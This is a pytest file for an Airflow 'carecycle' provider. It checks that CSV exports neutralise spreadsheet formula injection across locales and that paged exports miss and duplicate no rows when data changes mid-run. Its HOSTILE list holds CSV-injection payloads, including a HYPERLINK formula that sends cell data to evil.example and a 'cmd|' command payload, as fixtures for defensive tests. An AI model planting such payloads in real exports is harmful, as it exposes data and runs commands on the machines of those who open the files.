"""Exports under hostile conditions (issue 20, item 6): CSV cells that become formulas in another locale's
spreadsheet, and rows deleted while an export pages.

CSV injection: OWASP's rule is that no cell a spreadsheet reads may start with ``=``, ``+``, ``-``, ``@``, tab or CR,
and that a field separator inside a cell can start a cell of its own. A spreadsheet in a de/fr/es/it/pt-BR locale
splits a ``.csv`` file on ``;``, other tools on tab; a cell may start after blanks or a double quote; Excel reads
the full-width ``＝ ＋ － ＠`` as the ASCII ones. The tests write hostile text through the real writer and the real
customer export, then split every written cell as such a spreadsheet would and check that no piece starts a formula.
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pytest
import requests

from airflow_provider_carecycle.exceptions import CareCycleAPIError
from airflow_provider_carecycle.operators.customers import (
    CareCycleExtractCustomerCallsOperator,
    CareCycleExtractCustomersOperator,
)
from airflow_provider_carecycle.operators.leads import CareCycleUploadLeadsOperator
from airflow_provider_carecycle.storage import RecordWriter
from tests.adversarial.hostile_server import Forward

FAST = {"requests_per_minute": 6000}

# -- CSV injection: the rest of OWASP's list ---------------------------------------------------------------------

#: what may start a formula once a spreadsheet has made a cell of it
TRIGGERS = "=+-@\t\r\0＝＋－＠"
#: what a spreadsheet may skip before a cell's first character
SKIPPED = ' \u00a0\u3000"'
SEPARATORS = (",", ";", "\t", "\n", "\r")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)? *")
#: in JSON text, a number may be followed by the brackets that close its array or object
JSON_NUMBER = re.compile(NUMBER.pattern + r"[\]}]*")

HOSTILE = [
    'Smith;=HYPERLINK("http://evil.example/?d="&A1)',  # de/fr/es/it/pt-BR: ';' splits the cell
    "Smith\t=1+1",  # tab-separated reading
    "Smith,@SUM(A1:A9)",  # a tool that splits on ',' without honouring quotes
    " =1+1",  # a leading space
    "\u00a0=1+1",  # a leading no-break space
    '＝HYPERLINK("http://evil.example")',  # full-width equals
    "＋1+cmd|' /C calc'!A0",  # full-width plus
    "－2+3",  # full-width minus
    "＠SUM(A1)",  # full-width at
    "Smith; ＝1+1",  # separator, space, full-width
    'Smith;"=1+1"',  # separator, double quote
    "Smith;\u3000-1+1",  # separator, full-width space
    "first line\n=1+1",  # a line break
    "Smith;-5,=1+1",  # the ';' piece is not a number: '-5,=1+1'
    "-5;=1+1",  # starts like a number, but is not one
    "=1+1",  # the first round's rule still holds
]
#: text that a spreadsheet reads as a number, never a formula, in any locale: left as it is
NUMBERS = ["-5", "+1.5", "+12125550142", "-2e3", "a;-5", "x,+1.5", " -7"]


def pieces(cell: str) -> list[str]:
    """Every cell a spreadsheet may make of ``cell``: the cell itself, and its pieces for each separator."""
    out = [cell]
    for separator in SEPARATORS:
        if separator in cell:
            out += cell.split(separator)
    return out


def starts_formula(piece: str, number: re.Pattern[str] = NUMBER) -> bool:
    text = piece.lstrip(SKIPPED)
    return bool(text) and text[0] in TRIGGERS and not number.fullmatch(piece.strip(SKIPPED))


def formula_pieces(cell: str, number: re.Pattern[str] = NUMBER) -> list[str]:
    return [piece for piece in pieces(cell) if starts_formula(piece, number)]


def written_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_cell_starts_a_formula_in_any_locale(tmp_path):
    target = tmp_path / "out.csv"
    with RecordWriter(str(target)) as writer:
        for value in HOSTILE:
            writer.write({"name": value, "n": -5, "x": 1.5})
    cells = written_cells(target)
    assert {cell: formula_pieces(cell) for cell in cells if formula_pieces(cell)} == {}
    with open(target, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["n"] for row in rows] == ["-5"] * len(HOSTILE)  # numbers stay numbers
    assert [row["x"] for row in rows] == ["1.5"] * len(HOSTILE)
    # the quote goes where a spreadsheet would start the cell, and nothing else changes
    assert rows[0]["name"] == 'Smith;\'=HYPERLINK("http://evil.example/?d="&A1)'
    assert rows[3]["name"] == "' =1+1"
    assert rows[5]["name"] == '\'＝HYPERLINK("http://evil.example")'
    assert rows[10]["name"] == 'Smith;\'"=1+1"'
    assert rows[14]["name"] == "'-5;'=1+1"


def test_the_hostile_text_is_dangerous_without_the_rule(tmp_path):
    """The check above can fail: written byte for byte, every hostile value starts a formula somewhere."""
    target = tmp_path / "raw.csv"
    with RecordWriter(str(target), csv_formula_escape=False) as writer:
        for value in HOSTILE:
            writer.write({"name": value})
    assert all(formula_pieces(cell) for cell in written_cells(target)[1:])


@pytest.mark.parametrize("value", NUMBERS)
def test_plain_numbers_stay_as_they_are(tmp_path, value):
    target = tmp_path / "numbers.csv"
    with RecordWriter(str(target)) as writer:
        writer.write({"text": value, "int": -5, "float": 1.5})
    assert written_cells(target)[3:] == [value, "-5", "1.5"]


def test_header_cells_are_neutralised_too(tmp_path):
    target = tmp_path / "out.csv"
    with RecordWriter(str(target)) as writer:
        writer.write({"id;=cmd": 1, " @name": "x"})
    assert written_cells(target)[:2] == ["id;'=cmd", "' @name"]


def test_nested_values_stay_valid_json_with_the_same_value(tmp_path):
    """A nested value is JSON text in its cell: its dangerous characters become JSON escapes, not quotes."""
    value = {"tags": ["x", "=HYPERLINK(1)", "a;-1+1", "＠x"], "scores": [1, -5, -2.5], "n": -1}
    target = tmp_path / "out.csv"
    with RecordWriter(str(target), fieldnames=["v"]) as writer:
        writer.write({"v": value})
    (cell,) = written_cells(target)[1:]
    assert json.loads(cell) == value
    assert formula_pieces(cell, JSON_NUMBER) == []
    assert "\\u003dHYPERLINK" in cell and "[1,-5,-2.5]" in cell  # numbers are left as numbers


def upload(tmp_path: Path, records: list[dict[str, Any]]) -> None:
    source = tmp_path / "leads.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in records))
    op = CareCycleUploadLeadsOperator(task_id="upload", source_path=str(source), hook_params=FAST)
    assert op.execute({})["uploaded"] == len(records)


def test_the_customer_export_neutralises_every_locale(carecycle_emulator, tmp_path):
    names = ['Smith;=HYPERLINK("http://evil.example")', " =1+1", "＝1+1", "Doe,@SUM(A1)", "－2+3"]
    upload(
        tmp_path,
        [
            {"externalId": f"csv-{i}", "phoneNumber": f"212555{i:04d}", "postalCode": "10001", "lastName": name}
            for i, name in enumerate(names)
        ],
    )
    op = CareCycleExtractCustomersOperator(
        task_id="export",
        output_path=str(tmp_path / "customers.csv"),
        fields=["externalId", "lastName", "totalCalls"],
        hook_params=FAST,
    )
    op.execute({})
    with open(tmp_path / "customers.csv", newline="", encoding="utf-8") as handle:
        rows = {row["externalId"]: row for row in csv.DictReader(handle) if row["externalId"].startswith("csv-")}
    assert len(rows) == len(names)
    assert {key: formula_pieces(row["lastName"]) for key, row in rows.items() if formula_pieces(row["lastName"])} == {}
    assert rows["csv-0"]["lastName"] == 'Smith;\'=HYPERLINK("http://evil.example")'
    assert {row["totalCalls"] for row in rows.values()} == {"0"}


# -- rows deleted while an export pages ----------------------------------------------------------------------------
#
# careCycle's lists page by offset. A row deleted from a page already read moves every later row one place up, so
# the next page starts one row later and a customer that still exists is never read. The emulator deletes rows
# between two page requests on request (delete_between_pages), as careCycle's web app can at any time.

PER_PAGE = 10


def listing(emu, **params):
    """The customers the export lists (test numbers excluded), oldest first, as the emulator holds them now."""
    return [c["id"] for c in emu.query_customers({"sortBy": "createdAt", "sortDirection": "asc", **params})]


def exported_ids(path: Path, column: str = "id") -> list[str]:
    with open(path, encoding="utf-8") as handle:
        return [json.loads(line)[column] for line in handle]


def export_customers(tmp_path: Path, name: str = "customers.jsonl", **kwargs: Any) -> dict[str, Any]:
    kwargs.setdefault("hook_params", FAST)
    op = CareCycleExtractCustomersOperator(
        task_id="export", output_path=str(tmp_path / name), fields=["id"], per_page=PER_PAGE, **kwargs
    )
    return op.execute({})


def upload_direct(emu, records: list[dict[str, Any]]) -> None:
    """Upload leads straight to the emulator (no hook, no limiter): careCycle creating customers meanwhile."""
    answer = requests.post(
        f"{emu.url}/v2/leads/upload", headers={"x-api-key": "cc_test_key"}, json={"records": records}, timeout=10
    )
    answer.raise_for_status()
    assert answer.json()["succeeded"] == len(records)


@pytest.mark.parametrize(
    ("after", "deleted"),
    [
        (1, slice(0, 3)),  # three rows of page 1, deleted before page 2
        (2, slice(5, 15)),  # a whole page's worth, across pages 1 and 2, deleted before page 3
        (3, slice(0, 30)),  # every row read so far, before page 4
        (4, slice(38, 42)),  # rows on both sides of the offset: some read, some not yet
    ],
)
def test_a_customer_export_misses_no_customer_when_rows_are_deleted_mid_run(
    carecycle_emulator, tmp_path, after, deleted
):
    emu = carecycle_emulator
    before = listing(emu)
    emu.delete_between_pages(after=after, customers=before[deleted])
    summary = export_customers(tmp_path)
    exported = exported_ids(tmp_path / "customers.jsonl")
    still_there = listing(emu)
    assert len(still_there) == len(before) - len(before[deleted])  # the deletion did happen mid-run
    assert [i for i in still_there if i not in set(exported)] == []  # no customer that still exists is missing
    assert len(exported) == len(set(exported)) == summary["count"]  # and none is written twice
    assert exported == [i for i in before if i in set(exported)]  # in the list's order


def test_two_deletions_in_one_export_and_rows_inserted_meanwhile(
    carecycle_emulator, hostile_server, tmp_path, carecycle_connection
):
    """Deleted rows on two pages, and new leads uploaded between two pages (they land at the end of the oldest-first
    list, which the export reads too): nothing still there is missing, nothing is written twice."""
    emu = carecycle_emulator
    before = listing(emu)
    emu.delete_between_pages(after=1, customers=before[2:4])
    emu.delete_between_pages(after=3, customers=before[12:19])
    new_leads = [{"externalId": f"new-{i}", "phoneNumber": f"305555{i:04d}", "postalCode": "33101"} for i in range(12)]
    page_requests = []

    def insert_before_page_3(request):
        if request.path.startswith("/v2/customers?"):
            page_requests.append(request.path)
            if len(page_requests) == 3:
                upload_direct(emu, new_leads)
        return Forward()

    server = hostile_server(upstream=emu.url, script=insert_before_page_3)
    carecycle_connection("drift", host=server.url, extra={"requests_per_minute": 6000})
    export_customers(tmp_path, carecycle_conn_id="drift")
    exported = exported_ids(tmp_path / "customers.jsonl")
    still_there = listing(emu)
    assert len(still_there) == len(before) - 9 + len(new_leads)
    assert [i for i in still_there if i not in set(exported)] == []
    assert len(exported) == len(set(exported))


def test_more_deleted_rows_than_the_export_can_re_read_fail_the_task_and_say_why(carecycle_emulator, tmp_path):
    emu = carecycle_emulator
    leads = [{"externalId": f"mass-{n}", "phoneNumber": f"646555{n:04d}", "postalCode": "10001"} for n in range(400)]
    upload_direct(emu, leads[:200])
    upload_direct(emu, leads[200:])
    before = listing(emu)
    emu.delete_between_pages(after=15, customers=before[:150])  # the 150 rows read, deleted before page 16
    with pytest.raises(CareCycleAPIError) as err:
        export_customers(tmp_path)
    message = str(err.value)
    assert "GET /v2/customers" in message and "changed while it was paged" in message and "deleted" in message
    assert err.value.retryable
    assert not list(tmp_path.iterdir())  # nothing written, not even a temporary file


def test_a_calls_export_misses_no_call_when_calls_are_deleted_mid_run(carecycle_emulator, tmp_path):
    emu = carecycle_emulator
    customer = max(emu.query_customers({"includeTestNumbers": True}), key=lambda c: c["totalCalls"])
    calls = [c["id"] for c in emu.store.customer_calls(customer["id"], "createdAt", "desc", 10_000, 0)[1]]
    assert len(calls) >= 4
    emu.delete_between_pages(after=1, calls=calls[:1], path=f"/v2/customers/{customer['id']}/calls")
    op = CareCycleExtractCustomerCallsOperator(
        task_id="calls",
        customer_ids=[customer["id"]],
        output_path=str(tmp_path / "calls.jsonl"),
        fields=["id"],
        per_page=2,
        hook_params=FAST,
    )
    op.execute({})
    exported = exported_ids(tmp_path / "calls.jsonl")
    assert [c for c in calls[1:] if c not in set(exported)] == []
    assert len(exported) == len(set(exported))


def test_rows_created_before_the_offset_are_written_once(
    carecycle_emulator, hostile_server, tmp_path, carecycle_connection
):
    """Newest first, customers created mid-run land on pages already read and push every later row down a place:
    the rows pushed onto the next page are written once, and every customer there at the start is exported."""
    emu = carecycle_emulator
    newest_first = {"sort_by": "createdAt", "sort_direction": "desc"}
    before = listing(emu)
    page_requests = []

    def create_before_page_2(request):
        if request.path.startswith("/v2/customers?"):
            page_requests.append(request.path)
            if len(page_requests) == 2:
                upload_direct(
                    emu,
                    [
                        {"externalId": f"top-{i}", "phoneNumber": f"786555{i:04d}", "postalCode": "33101"}
                        for i in range(4)
                    ],
                )
        return Forward()

    server = hostile_server(upstream=emu.url, script=create_before_page_2)
    carecycle_connection("drift", host=server.url, extra={"requests_per_minute": 6000})
    summary = export_customers(tmp_path, carecycle_conn_id="drift", filters=newest_first)
    exported = exported_ids(tmp_path / "customers.jsonl")
    assert len(exported) == len(set(exported)) == summary["count"]
    assert set(before) <= set(exported)
